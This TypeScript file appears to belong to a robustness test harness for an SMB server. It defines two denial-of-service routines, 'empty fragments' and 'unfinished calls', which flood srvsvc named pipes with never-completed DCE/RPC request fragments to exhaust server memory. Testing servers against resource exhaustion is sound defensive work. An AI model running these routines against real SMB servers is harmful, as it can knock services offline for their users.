import { createRpcClient, encodePdu, PduFlags, PduType, SRVSVC } from '@tsmbd/dcerpc';
import { Command, type FileId, writeRequest, writeResponse } from '@tsmbd/smb2-codec';
import { SmbError, writeBody } from '@tsmbd/tool-smb-client';
import type { Attack } from '../attack.ts';
import { close, gatherCredits, type Mounted, mounted, open } from '../steps.ts';

/** A fragment of a request that does not end with it. `stub` is the data that it brings. */
function unfinished(stub: Uint8Array, isFirst: boolean): Uint8Array {
  const flags = isFirst ? PduFlags.FIRST_FRAG : 0;
  return encodePdu({ type: PduType.REQUEST, flags, callId: 2, contextId: 0, opnum: 15, allocationHint: 0, stub });
}

/** A bound srvsvc pipe, or undefined if the server allows no more of them. */
async function bound(pipes: Mounted): Promise<FileId | undefined> {
  try {
    const fileId = await open(pipes, 'srvsvc', { desiredAccess: 0x0012_019f });
    await write(pipes, fileId, createRpcClient(SRVSVC).bind());
    return fileId;
  } catch (error) {
    if (error instanceof SmbError) return undefined;
    throw error;
  }
}

/** Returns false if the server accepts no more on this pipe. */
async function write({ client, treeId }: Mounted, fileId: FileId, data: Uint8Array): Promise<boolean> {
  try {
    const charge = Math.ceil(data.length / 65_536);
    const codecs = [writeRequest, writeResponse] as const;
    await client.request(Command.WRITE, ...codecs, writeBody(fileId, 0, data), { treeId, charge });
    return true;
  } catch (error) {
    if (error instanceof SmbError) return false;
    throw error;
  }
}

/**
 * A request that never ends, made of pieces that take more memory in the server than on the wire.
 */
export const emptyFragments: Attack = {
  name: 'empty fragments',
  what: 'RPC requests of fragments without a byte in them, 64 and 2,500 fragments a WRITE, 4,000 WRITEs',
  async run(scene) {
    const pipes = await mounted(scene, {}, 'IPC$');
    await gatherCredits(pipes, 1000);
    const [few, many] = [64, 2500].map((length) =>
      Buffer.concat(Array.from({ length }, () => unfinished(new Uint8Array(0), false))),
    );
    let fileId: FileId | undefined;
    for (let i = 0; i < 4000 * scene.scale; i++) {
      if (fileId === undefined) {
        fileId = await bound(pipes);
        if (fileId === undefined) return;
        await write(pipes, fileId, unfinished(new Uint8Array(0), true));
      }
      if (await write(pipes, fileId, i % 2 === 0 ? few! : many!)) continue;
      await close(pipes, fileId);
      fileId = undefined;
    }
  },
};

/** The server keeps much data for requests that nobody completes. */
export const unfinishedCalls: Attack = {
  name: 'unfinished calls',
  what: '600 pipes of ten sessions, each with almost 1 MiB of an RPC request that does not end',
  async run(scene) {
    const stub = new Uint8Array(4096);
    const some = Buffer.concat(Array.from({ length: 60 }, () => unfinished(stub, false)));
    for (let session = 0; session < 10; session++) {
      const pipes = await mounted(scene, {}, 'IPC$');
      await gatherCredits(pipes, 1000);
      for (let i = 0; i < 60 * scene.scale; i++) {
        const fileId = await bound(pipes);
        if (fileId === undefined) break;
        await write(pipes, fileId, unfinished(stub, true));
        for (let n = 0; n < 4; n++) if (!(await write(pipes, fileId, some))) break;
      }
    }
  },
};
